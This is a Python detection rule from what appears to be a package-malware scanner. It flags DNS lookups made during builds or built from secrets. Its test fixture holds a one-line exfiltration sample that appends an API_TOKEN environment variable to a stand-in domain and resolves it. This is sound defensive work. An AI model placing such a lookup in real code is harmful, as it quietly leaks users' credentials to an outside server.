"""Names are resolved that carry something, or during a build."""

from __future__ import annotations

from typing import TYPE_CHECKING

from veln_hook.signals.source.rule import BY_ITSELF, HOLD, Hit, Rule
from veln_hook.source import vocabulary as v

if TYPE_CHECKING:
    from collections.abc import Iterator

    from veln_hook.signals.source.view import View


def _find(view: View) -> Iterator[Hit]:
    secret = view.paths(v.CRED) | view.paths(v.ENV)
    for look_up in view.of(v.DNS):
        if look_up.reach == "build":
            yield Hit("building it resolves a name, which tells its server", (look_up,))
            continue
        itself, taints = look_up.reach in BY_ITSELF, set(look_up.taints)
        # Settings of secrets may have a host's name in them; theft adds a domain.
        secrets = (
            look_up.path in secret and {"cred", "env"} & taints and (itself or "joined" in look_up.flags)
        )
        if secrets or ("host" in taints and itself and ("." in look_up.detail or "joined" in look_up.flags)):
            yield Hit("it resolves a name made of secrets or of facts about this machine", (look_up,))


RULE = Rule(
    name="dns-exfiltration",
    description="It resolves a name during the build, or one that is made of secrets.",
    grade=HOLD,
    find=_find,
    fires={
        "acme/__init__.py": (
            "import os, socket\nsocket.gethostbyname(os.environ['API_TOKEN'] + '.example.test')\n"
        )
    },
    quiet={
        "acme/__init__.py": (
            "import socket\n\ndef here():\n    return socket.gethostbyname(socket.gethostname())\n"
        )
    },
    rates="53 of 2,004 malicious clusters, none of 46 popular sdists",
)
